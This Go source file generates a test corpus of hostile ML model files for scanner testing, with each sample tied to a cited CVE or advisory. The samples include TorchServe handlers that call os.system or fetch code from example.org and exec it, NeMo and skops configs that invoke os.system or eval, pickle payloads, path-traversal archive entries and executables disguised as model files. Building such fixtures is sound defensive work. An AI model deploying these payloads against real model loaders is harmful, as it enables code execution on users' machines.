package main

import (
	"bytes"
	"fmt"
)

// packages are archives of one library each, that name code or hold it.
func packages(c *corpus) {
	torchServe(c)
	nemo(c)
	skops(c)
	const ape = "llamafile: an executable by design"
	c.hostile("container", "program that holds a model", ape, "model.llamafile", append(append([]byte("MZqFpD='\n"), make([]byte, 4096)...), zipped(entry{name: "model.gguf", data: gguf(ggufModel()...), align: 64})...))
	c.hostile("container", "mlflow model with a pickle", "mlflow pyfunc", "model.zip", zipped(entry{name: "MLmodel", data: []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n")}, entry{name: "model.pkl", data: system()}))
	c.hostile("container", "stable-baselines3 archive", "stable-baselines3 load_from_zip_file: base64 of cloudpickle in JSON", "agent.zip", zipped(
		entry{name: "data", data: fmt.Appendf(nil, `{"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": %q}}`, b64(system()))},
		entry{name: "policy.pth", data: torchZip("archive", pickled(style{proto: 2}, stateDict()))}, entry{name: "pytorch_variables.pth", data: torchZip("archive", system())}))
	c.hostile("container", "OCI layer with a pickle", "modelaudit OCI layer tests", "layer.tar.gz", packed("gzip", tarred(tarEntry{name: "opt/model/model.pkl", data: system()})))
}

func torchServe(c *corpus) {
	const docs = "TorchServe documentation: a handler is code"
	mar := func(handler string, files ...entry) []byte {
		return zipped(append([]entry{{name: "MAR-INF/MANIFEST.json", data: fmt.Appendf(nil, `{"createdOn":"01/01/2025","runtime":"python","model":{"modelName":"m","serializedFile":"model.pt","handler":%q,"modelVersion":"1.0"},"archiverVersion":"0.9.0"}`, handler)}}, files...)...)
	}
	weights := entry{name: "model.pt", data: torchZip("archive", pickled(style{proto: 2}, stateDict()))}
	c.hostile("container", "TorchServe handler runs a program", docs, "model.mar", mar("handler.py", weights, entry{name: "handler.py", data: []byte("import os\n\ndef handle(data, context):\n    os.system('" + cmd + "')\n    return [1]\n")}))
	c.hostile("container", "TorchServe handler runs a program", docs, "model.mar", mar("handler:handle", weights, entry{name: "handler.py", data: []byte("import subprocess\nsubprocess.Popen(['echo', '" + word + "'])\n\ndef handle(data, context):\n    return [1]\n")}))
	c.hostile("container", "TorchServe handler opens a connection", docs, "model.mar", mar("handler.py", weights, entry{name: "handler.py", data: []byte("import socket\n\ndef handle(data, context):\n    s = socket.create_connection(('example.org', 80))\n    exec(s.recv(99))\n")}))
	c.hostile("container", "TorchServe model with a call", docs, "model.mar", mar("image_classifier", entry{name: "model.pt", data: torchZip("archive", system())}))
	c.hostile("container", "TorchServe extra file with a call", docs, "model.mar", mar("image_classifier", weights, entry{name: "extra.pkl", data: system()}))
	c.hostile("container", "TorchServe handler outside", "CVE-2023-43654 (ShellTorch)", "model.mar", mar("../../handler.py", weights))
}

func nemo(c *corpus) {
	const cve = "CVE-2025-23304 (NeMo, Hydra _target_; Unit 42)"
	for _, target := range []string{"os.system", "builtins.exec", "builtins.eval", "subprocess.Popen", "posix.system"} {
		config := "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: " + target + "\n  _args_:\n  - " + cmd + "\n"
		c.hostile("container", "NeMo configuration calls", cve, "model.nemo", tarred(tarEntry{name: "./model_config.yaml", data: []byte(config)}, tarEntry{name: "./model_weights.ckpt", data: torchZip("archive", pickled(style{proto: 2}, stateDict()))}))
	}
	c.hostile("container", "NeMo weights with a call", cve, "model.nemo", packed("gzip", tarred(tarEntry{name: "./model_config.yaml", data: []byte("target: nemo.core.ModelPT\n")}, tarEntry{name: "./model_weights.ckpt", data: torchZip("archive", system())})))
	c.hostile("container", "NeMo YAML tag", "PyYAML full loaders", "model.nemo", tarred(tarEntry{name: "model_config.yaml", data: []byte("a: !!python/object/apply:os.system [\"" + cmd + "\"]\n")}))
	c.hostile("container", "NeMo archive that escapes", "CVE-2024-0129 (NeMo SaveRestoreConnector)", "model.nemo", tarred(tarEntry{name: "../../corpus.py", data: []byte("x")}, tarEntry{name: "model_config.yaml", data: []byte("target: nemo.core.ModelPT\n")}))
}

func skops(c *corpus) {
	file := func(node string, files ...entry) []byte {
		return zipped(append([]entry{{name: "schema.json", data: []byte(node)}}, files...)...)
	}
	wrap := func(module, class, loader, content string) string {
		return fmt.Sprintf(`{"__class__":%q,"__module__":%q,"__loader__":%q,%s,"protocol":2,"_skops_version":"0.11.0"}`, class, module, loader, content)
	}
	const advisory = "CVE-2025-54412, CVE-2025-54413 (skops OperatorFuncNode and MethodNode)"
	c.hostile("container", "skops names a function", "skops type trust", "model.skops", file(wrap("os", "system", "FunctionNode", `"__id__":1,"content":{"module_path":"os","function":"system"}`)))
	c.hostile("container", "skops names a function", "skops type trust", "model.skops", file(wrap("builtins", "eval", "FunctionNode", `"__id__":1,"content":"eval"`)))
	c.hostile("container", "skops names a class", "skops type trust", "model.skops", file(wrap("subprocess", "Popen", "ObjectNode", `"__id__":1,"content":{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{},"key_types":{"__class__":"list","__module__":"builtins","__loader__":"ListNode","content":[]}}`)))
	c.hostile("container", "skops operator node", advisory, "model.skops", file(wrap("operator", "methodcaller", "OperatorFuncNode", `"__id__":1,"attrs":{"__class__":"tuple","__module__":"builtins","__loader__":"TupleNode","content":[{"__class__":"str","__module__":"builtins","__loader__":"JsonNode","content":"\"system\""}]}`)))
	c.hostile("container", "skops method node", advisory, "model.skops", file(wrap("builtins", "str", "MethodNode", `"__id__":1,"content":{"func":"system","obj":{"__class__":"Popen","__module__":"subprocess","__loader__":"ObjectNode"}}`)))
	c.hostile("container", "skops partial node", "skops type trust", "model.skops", file(wrap("functools", "partial", "PartialNode", `"__id__":1,"content":{"func":{"__class__":"system","__module__":"posix","__loader__":"FunctionNode","content":{"module_path":"posix","function":"system"}}}`)))
	c.hostile("container", "skops file that is a pickle", "CVE-2025-54886 (skops falls back to joblib)", "model.skops", system())
	c.hostile("container", "skops array of objects", "numpy object arrays", "model.skops", file(wrap("numpy", "ndarray", "NdArrayNode", `"__id__":1,"type":"numpy","file":"1.npy"`), entry{name: "1.npy", data: npy(1, "|O", "(1,)", system())}))
}

// disguises are programs under the names of models, and what else stands where a model should.
func disguises(c *corpus) {
	const seen = "modelaudit executable signature tests; malicious files on the hub"
	pe := append([]byte("MZ\x90\x00"), make([]byte, 60)...)
	pe[60] = 64
	pe = append(append(pe, "PE\x00\x00\x64\x86"...), make([]byte, 200)...)
	macho := append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"), make([]byte, 100)...)
	class := append([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10"), make([]byte, 100)...)
	script := []byte("#!/bin/sh\n" + cmd + "\n")
	lnk := append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"), make([]byte, 80)...)
	python := []byte("#!/usr/bin/env python3\nimport os\nos.system('" + cmd + "')\n")
	for _, f := range []struct {
		name string
		data []byte
	}{
		{"pytorch_model.bin", elf()}, {"model.safetensors", elf()}, {"model.onnx", pe}, {"model.pt", pe}, {"model.gguf", macho}, {"model.h5", class}, {"model.ckpt", script},
		{"model.pkl", lnk}, {"model.keras", python}, {"weights.npy", script}, {"model.tflite", elf()}, {"model.mlmodel", pe},
	} {
		c.hostile("other", "program under a model's name", seen, f.name, f.data)
	}
	c.hostile("container", "program in a torch archive", seen, "model.pt", torchZip("archive", pickled(style{proto: 2}, fn("ctypes", "CDLL", "./lib.so")), entry{name: "extra/lib.so", data: elf()}))
	c.hostile("other", "zip under a model's name", "picklescan CVE-2025-10155", "model.safetensors", zipped(entry{name: "data.pkl", data: system()}))
	c.hostile("other", "pickle behind a safetensors head", "polyglot files (Trail of Bits)", "model.safetensors", append(bytes.Clone([]byte("\x80\x04cposix\nsystem\n\x8c\x04echo\x85R.")), make([]byte, 64)...))
}
